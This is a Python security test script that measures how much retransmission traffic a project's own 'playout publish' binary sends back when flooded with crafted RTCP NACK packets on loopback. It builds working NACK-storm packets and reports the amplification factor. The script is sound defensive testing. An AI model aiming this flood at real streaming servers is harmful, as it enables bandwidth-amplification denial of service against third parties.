#!/usr/bin/env python3
"""Measures how much retransmission a NACK storm draws from `playout publish` (issue 26, item 2).

The attack: RTCP compounds of 264 bytes (an empty receiver report and a generic NACK naming the
last 1,024 sequence numbers seen) about 90 times a second, to the publisher's RTCP port. The
script stands in for the receiver on 127.0.0.1:PORT (RTP) and PORT+1 (RTCP), learns the
publisher's RTCP port from its sender reports, and sends the NACKs either from an unrelated port
(--from stranger) or from the receiver's own RTCP port (--from receiver). It counts the RTX bytes
that arrive (payload type 98) and prints the amplification: RTX bytes received / NACK bytes sent.

    Tests/Attacks/nack-amplification.py .build/debug/playout --from stranger
    Tests/Attacks/nack-amplification.py .build/debug/playout --from receiver --size 1280x720 --bitrate 2.5M

Loopback only; needs nothing but Python 3 and the binary.
"""
import argparse
import json
import select
import socket
import struct
import subprocess
import sys
import time


def free_base_port():
    """Four consecutive free UDP ports on 127.0.0.1."""
    for _ in range(200):
        probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        probe.bind(("127.0.0.1", 0))
        base = probe.getsockname()[1]
        probe.close()
        if base > 65530:
            continue
        sockets = []
        try:
            for offset in range(4):
                s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                s.bind(("127.0.0.1", base + offset))
                sockets.append(s)
            return base
        except OSError:
            continue
        finally:
            for s in sockets:
                s.close()
    raise SystemExit("no four free ports")


def nack_compound(sender_ssrc, media_ssrc, highest):
    """An empty RR and a generic NACK (RFC 4585 §6.2.1) naming highest-1023 … highest."""
    rr = struct.pack(">BBHI", 0x80, 201, 1, sender_ssrc)
    first = (highest - 1023) & 0xFFFF
    fci = b""
    sequence = 0
    while sequence < 1024:
        pid = (first + sequence) & 0xFFFF
        bitmask = 0
        for bit in range(16):
            if sequence + 1 + bit < 1024:
                bitmask |= 1 << bit
        fci += struct.pack(">HH", pid, bitmask)
        sequence += 17
    body = struct.pack(">II", sender_ssrc, media_ssrc) + fci
    nack = struct.pack(">BBH", 0x80 | 1, 205, len(body) // 4) + body
    return rr + nack


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("playout")
    parser.add_argument("--from", dest="origin", choices=["stranger", "receiver"], default="stranger")
    parser.add_argument("--seconds", type=float, default=3.0)
    parser.add_argument("--rate", type=float, default=90.0, help="NACK compounds a second")
    parser.add_argument("--size", default="640x360")
    parser.add_argument("--bitrate", default="1M")
    arguments = parser.parse_args()

    base = free_base_port()
    rtp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    rtp.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
    rtp.bind(("127.0.0.1", base))
    rtcp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    rtcp.bind(("127.0.0.1", base + 1))
    stranger = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    stranger.bind(("127.0.0.1", 0))
    attacker = stranger if arguments.origin == "stranger" else rtcp

    run = arguments.seconds + 1.5
    publisher = subprocess.Popen(
        [arguments.playout, "publish", "testsrc", "--to", f"127.0.0.1:{base}", "--duration", f"{run}s", "--no-audio",
         "--size", arguments.size, "--bitrate", arguments.bitrate, "--json"],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)

    media_bytes = rtx_bytes = rtx_packets = nack_bytes = nacks = 0
    media_ssrc = highest = control = None
    attack_start = attack_end = None
    next_nack = 0.0
    interval = 1.0 / arguments.rate
    deadline = time.monotonic() + run + 3
    while time.monotonic() < deadline and publisher.poll() is None:
        now = time.monotonic()
        if control and media_ssrc is not None and attack_start is None:
            attack_start, next_nack = now, now
            attack_end = now + arguments.seconds
        if attack_start is not None and now >= next_nack and now < attack_end:
            compound = nack_compound(0x0BAD_F00D, media_ssrc, highest)
            attacker.sendto(compound, control)
            nack_bytes += len(compound)
            nacks += 1
            next_nack += interval
        timeout = max(0.0, min(next_nack - now, 0.05)) if attack_start is not None else 0.05
        readable, _, _ = select.select([rtp, rtcp], [], [], timeout)
        for s in readable:
            while True:
                try:
                    data, source = s.recvfrom(65536, socket.MSG_DONTWAIT)
                except BlockingIOError:
                    break
                if s is rtcp:
                    if len(data) >= 2 and data[1] == 200:
                        control = source
                    continue
                if len(data) < 12:
                    continue
                payload_type = data[1] & 0x7F
                counting = attack_start is not None and time.monotonic() < attack_end + 0.5
                if payload_type == 96:
                    media_ssrc = struct.unpack(">I", data[8:12])[0]
                    highest = struct.unpack(">H", data[2:4])[0]
                    if counting:
                        media_bytes += len(data)
                elif payload_type == 98 and counting:
                    rtx_bytes += len(data)
                    rtx_packets += 1
    out, err = publisher.communicate(timeout=30)
    statistics = None
    for line in out.splitlines():
        if line.startswith("{"):
            statistics = json.loads(line)
    print(f"binary: {arguments.playout}")
    print(f"attack: {nacks} NACK compounds from {arguments.origin} port, {nack_bytes} bytes over {arguments.seconds} s "
          f"({nack_bytes // max(nacks, 1)} bytes each, {nacks / arguments.seconds:.0f}/s), video {arguments.size} at {arguments.bitrate}bit/s")
    print(f"received: media {media_bytes} bytes, RTX {rtx_bytes} bytes in {rtx_packets} packets")
    print(f"amplification: {rtx_bytes / max(nack_bytes, 1):.2f}x (RTX bytes / NACK bytes); RTX / media: {rtx_bytes / max(media_bytes, 1):.2f}")
    if statistics:
        video = statistics.get("video", {})
        print("publisher:", json.dumps({"feedback": video.get("feedback"), "rtcp": statistics.get("rtcp"),
                                         "targetBitrate": video.get("targetBitrate")}))
    if publisher.returncode != 0:
        print(f"publish exited {publisher.returncode}: {err.strip()[-400:]}", file=sys.stderr)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
